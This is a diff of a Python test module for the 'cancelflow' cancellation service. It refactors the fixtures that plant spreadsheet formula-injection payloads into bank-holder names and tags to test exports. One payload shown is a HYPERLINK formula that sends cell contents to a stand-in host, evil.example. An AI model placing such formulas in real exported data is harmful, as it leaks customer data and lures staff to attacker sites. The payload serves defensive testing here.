@@ -8,9 +8,7 @@ from __future__ import annotations
 import csv
 import io
 import json
-import uuid
 import zipfile
-from collections.abc import Iterator
 from typing import Any
 
 import pytest
@@ -18,13 +16,16 @@ from fastapi.testclient import TestClient
 from openpyxl import load_workbook
 from sqlalchemy import update
 
-from cancelflow.api.app import create_app
 from cancelflow.db import get_engine, transaction
 from cancelflow.models import CancellationRequest, ExportFormat
 from cancelflow.services import exports, tags
 from cancelflow.services.queries import RequestFilters
-from cancelflow.services.tokens import create_token
-from tests.factories import VALID_IBAN, load, order_payload
+from tests.factories import (
+    bank_transfer_request_over_api,
+    load,
+    order_payload,
+    token_headers,
+)
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click for refund")',
@@ -37,36 +38,16 @@ PAYLOADS = [
 ]
 
 
-def token(kind: str, **kwargs: Any) -> dict[str, str]:
-    with transaction() as session:
-        _, key = create_token(session, name=f"{kind}-{uuid.uuid4().hex[:12]}", kind=kind, **kwargs)
-    return {"Authorization": f"Token {key}"}
-
-
-@pytest.fixture(scope="module")
-def client(database: str) -> Iterator[TestClient]:
-    with TestClient(create_app()) as test_client:
-        yield test_client
-
-
 @pytest.fixture(scope="module")
 def storefront(database: str) -> dict[str, str]:
     load({"orders": [order_payload(channel=1)]})  # channel 1 exists before its token
-    return token("storefront", channel_id=1)
+    return token_headers("storefront", channel_id=1)
 
 
 @pytest.fixture(scope="module")
 def planted(client: TestClient, storefront: dict[str, str]) -> list[int]:
     """One request per payload, created by a storefront token, tagged with the payload too."""
-    ids = []
-    for payload in PAYLOADS:
-        order = order_payload(method="bank_transfer", channel=1)
-        load({"orders": [order]})
-        body = {"order_item": order["items"][0]["id"], "reason": 1, "quantity": 1}
-        body |= {"iban": VALID_IBAN, "holder_name": payload}
-        response = client.post("/api/v1/cancellation_requests/", headers=storefront, json=body)
-        assert response.status_code == 201, response.text
-        ids.append(int(response.json()["id"]))
+    ids = [bank_transfer_request_over_api(client, storefront, holder_name=payload) for payload in PAYLOADS]
     with transaction() as session:
         tags.add(session, ids[0], [PAYLOADS[1]])
         # The API strips surrounding whitespace; other writers (imports, the CLI) may not: exact values.
